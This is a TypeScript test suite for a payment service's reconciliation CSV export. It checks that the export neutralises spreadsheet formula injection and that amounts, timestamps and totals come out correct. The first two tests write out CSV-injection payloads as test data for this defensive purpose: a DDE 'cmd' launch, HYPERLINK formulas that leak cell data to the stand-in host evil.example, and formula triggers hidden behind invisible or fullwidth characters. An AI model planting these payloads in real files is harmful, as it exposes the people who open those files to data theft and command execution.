import { text as readText } from 'node:stream/consumers';
import { createPgPool, createPrismaClient, type PrismaClient, streamReconCsv } from '@pay/persistence';
import { createMerchant, insertPayin } from '@pay/testing';
import { parse } from 'csv-parse/sync';
import { formatJakartaDateTime } from '@pay/domain';
import { Pool } from 'pg';

/** The recon CSV opened in a spreadsheet: nothing a merchant, payer or acquirer typed runs as a formula. */
describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
  let prisma: PrismaClient;
  let pool: Pool;

  beforeAll(() => {
    prisma = createPrismaClient(process.env.DATABASE_URL as string, 2);
    pool = createPgPool(process.env.DATABASE_URL as string, 2);
  });
  afterAll(async () => {
    await prisma.$disconnect();
    await pool.end();
  });

  async function exportCsv(merchantId: number, from = pool): Promise<string> {
    const since = new Date(Date.now() - 3_600_000);
    const { csv, done } = await streamReconCsv(from, merchantId, since, new Date(Date.now() + 3_600_000));
    const body = await readText(csv);
    await done();
    return body;
  }

  it('prefixes a quote to free-text cells starting with = + - @ tab or CR; plain ids, numbers and amounts stay as they are', async () => {
    const { merchant } = await createMerchant(prisma, { name: "=cmd|' /C calc'!A0" });
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Refund")',
      '+SUM(A1:A9)',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
    ];
    const harmless = ['INV-2026-0001', '-5', '+62812', 'A=1+1', "'quoted"];
    for (const id of [...hostile, ...harmless]) await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, id);
    const first = await prisma.payin.findFirstOrThrow({
      where: { merchantId: merchant.id, merchantTrxId: 'INV-2026-0001' },
    });
    await prisma.payin.update({ where: { id: first.id }, data: { issuer: '=1+1', rrn: '@A1', nmid: '-1+1' } });

    const body = await exportCsv(merchant.id);
    const rows = parse(body, { columns: true }) as Record<string, string>[];
    const ids = rows.map((r) => r.merchantTrxId).sort();
    // A carriage return also ends a row where ; separates cells: the = after it starts a cell there.
    const neutralised = hostile.map((id) => (id === '\r=1+1' ? "'\r'=1+1" : `'${id}`));
    expect(ids).toEqual([...neutralised, ...harmless].sort());
    const normal = rows.find((r) => r.merchantTrxId === 'INV-2026-0001');
    expect(normal).toMatchObject({
      merchantName: "'=cmd|' /C calc'!A0",
      issuer: "'=1+1",
      rrn: "'@A1",
      nmid: "'-1+1",
      amount: '50000',
      fee: '500',
      netAmount: '49500',
    });
    // Unchanged bytes for an ordinary row: the id is written bare, the amounts as numbers.
    expect(body).toMatch(/^INV-2026-0001,QR[0-9A-F]{16},/m);
    expect(body).toMatch(/,50000,500,49500,/);
    // The formula with a comma and quotes stays one quoted cell.
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Refund"")"`);
  });

  it('neutralises formulas after invisible characters, in fullwidth forms and after a ; or a line break: no cell begins a formula, comma- or semicolon-separated', async () => {
    const { merchant } = await createMerchant(prisma, { name: 'Toko;=HYPERLINK("https://evil.example/?"&A1)' });
    const hostile: Record<string, string> = {
      '＝1+1': "'＝1+1",
      '\u200b=1+1': "'\u200b=1+1",
      ' =1+1': "' =1+1",
      'x;=1+1': "x;'=1+1",
      '|': "'|",
      '"@SUM(A1)"': '\'"@SUM(A1)"',
    };
    for (const id of Object.keys(hostile)) await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, id);
    const paid = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'PAID-2');
    await prisma.payin.update({
      where: { id: paid },
      data: { issuer: '\ufeff＠A1', rrn: '12;-1+1', nmid: 'ID1\n=1+1' },
    });

    const body = await exportCsv(merchant.id);
    const rows = parse(body, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.merchantTrxId)).toEqual(expect.arrayContaining(Object.values(hostile)));
    expect(rows.find((r) => r.merchantTrxId === 'PAID-2')).toMatchObject({
      merchantName: 'Toko;\'=HYPERLINK("https://evil.example/?"&A1)',
      issuer: "'\ufeff＠A1",
      rrn: "12;'-1+1",
      nmid: "ID1\n'=1+1",
    });
    // Read as Excel reads it where ; separates cells (and a line break ends a row whatever the quotes):
    // after characters a spreadsheet may drop or not show, no cell starts with a trigger.
    const invisible = /^[\p{Cc}\p{Cf}\p{White_Space}\p{Default_Ignorable_Code_Point}"]*/u;
    const formula = (cell: string) => /^[=+\-@|\t\r]/.test(cell.replace(invisible, '').normalize('NFKC'));
    const semicolonCells = body.split(/[;\r\n]/);
    expect(semicolonCells.filter(formula)).toEqual([]);
    expect(rows.flatMap((r) => Object.values(r)).filter(formula)).toEqual([]);
  });

  it('keeps the money columns exact: Rupiah with at most two decimals, never quoted, netAmount = amount - fee', async () => {
    const { merchant } = await createMerchant(prisma);
    const cents = await insertPayin(prisma, merchant.id, 100_050n, 7n, 'CENTS-1');
    await prisma.payin.update({ where: { id: cents }, data: { feePctMilli: 700, feeFixed: 7n } });
    await insertPayin(prisma, merchant.id, 150_000n, 150_000n, 'ALL-FEE-1');
    await insertPayin(prisma, merchant.id, 99_999_999_999n, 1n, 'LARGE-1');
    const rows = parse(await exportCsv(merchant.id), { columns: true }) as Record<string, string>[];
    const money = (id: string) => {
      const r = rows.find((row) => row.merchantTrxId === id);
      return r && [r.amount, r.fee, r.netAmount, r.feePercentage, r.feeFixed];
    };
    expect(money('CENTS-1')).toEqual(['1000.5', '0.07', '1000.43', '0.7', '0.07']);
    expect(money('ALL-FEE-1')).toEqual(['1500', '1500', '0', '0', '1500']);
    expect(money('LARGE-1')).toEqual(['999999999.99', '0.01', '999999999.98', '0', '0.01']);
  });

  it('fills rrn and issuer only for a paid pay-in: empty for a failed one even when the acquirer named its issuer', async () => {
    const { merchant } = await createMerchant(prisma);
    const paidId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'PAID-1');
    await prisma.payin.update({ where: { id: paidId }, data: { issuer: 'OVO' } });
    const failedId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'FAILED-1');
    await prisma.payin.update({
      where: { id: failedId },
      data: { status: 'failed', issuer: 'DANA', rrn: null, successAt: null, failureReason: 'Payment failed' },
    });

    const rows = parse(await exportCsv(merchant.id), { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.merchantTrxId === 'PAID-1')).toMatchObject({
      status: 'success',
      issuer: 'OVO',
      rrn: expect.stringMatching(/.+/),
    });
    expect(rows.find((r) => r.merchantTrxId === 'FAILED-1')).toMatchObject({
      status: 'failed',
      issuer: '',
      rrn: '',
      success_at: '',
    });
    // The row keeps what the acquirer said.
    expect((await prisma.payin.findUniqueOrThrow({ where: { id: failedId } })).issuer).toBe('DANA');
  });

  it("prints times as Jakarta wall-clock YYYY-MM-DD HH:MM:SS, cut (not rounded) to the second, whatever the connection's DateStyle and TimeZone", async () => {
    const { merchant } = await createMerchant(prisma);
    const id = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'TIMED-1');
    // 987 ms past the second: rounding would print the next second.
    const createdAt = new Date(Math.floor(Date.now() / 1000) * 1000 - 60_000 + 987);
    const successAt = new Date(createdAt.getTime() + 30_000);
    await prisma.payin.update({ where: { id }, data: { createdAt, successAt } });
    const foreign = new Pool({
      connectionString: process.env.DATABASE_URL,
      max: 1,
      options: '-c DateStyle=SQL,DMY -c TimeZone=America/New_York',
    });
    try {
      const row = (parse(await exportCsv(merchant.id, foreign), { columns: true }) as Record<string, string>[]).find(
        (r) => r.merchantTrxId === 'TIMED-1',
      );
      expect(row).toMatchObject({
        createdAt: formatJakartaDateTime(new Date(createdAt.getTime() - 987)),
        success_at: formatJakartaDateTime(new Date(successAt.getTime() - 987)),
      });
      expect(row?.createdAt).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    } finally {
      await foreign.end();
    }
  });

  it('the totals match the file even when pay-ins land while it is read: both come from the snapshot the export started with', async () => {
    const { merchant } = await createMerchant(prisma);
    // Enough rows (about 2 MB) that the COPY is still running, held back by the unread stream, when the late pay-in commits.
    await prisma.$executeRawUnsafe(`
      INSERT INTO payins (id, merchant_id, merchant_trx_id, platform_trx_id, amount, fee, fee_pct_milli, fee_fixed, status, rrn, success_at, created_at, nmid, issuer, expires_at)
      SELECT gen_random_uuid(), ${merchant.id}, 'BULK-' || g, 'QRSNAP' || lpad(g::text, 12, '0'), 1000000 + g * 100, 10000, 700, 15000,
             CASE WHEN g % 4 = 0 THEN 'failed' ELSE 'success' END, lpad(g::text, 12, '0'), now() - interval '10 minutes', now() - interval '10 minutes',
             '${merchant.nmid}', 'DANA', now() + interval '5 minutes'
        FROM generate_series(1, 20000) AS g`);
    const { csv, summary, done } = await streamReconCsv(
      pool,
      merchant.id,
      new Date(Date.now() - 3_600_000),
      new Date(Date.now() + 3_600_000),
    );
    await insertPayin(prisma, merchant.id, 9_900_000n, 99_000n, 'LATE-1');
    const rows = parse(await readText(csv), { columns: true }) as Record<string, string>[];
    const { totals } = await summary;
    await done();
    expect(rows).toHaveLength(20_000);
    expect(rows.some((r) => r.merchantTrxId === 'LATE-1')).toBe(false);
    const paid = rows.filter((r) => r.status === 'success');
    const rupiah = (col: string) => paid.reduce((sum, r) => sum + BigInt(r[col]) * 100n, 0n);
    expect(totals).toEqual({
      rowCount: 20_000,
      gross: rupiah('amount'),
      fees: rupiah('fee'),
      net: rupiah('netAmount'),
    });
  });
});
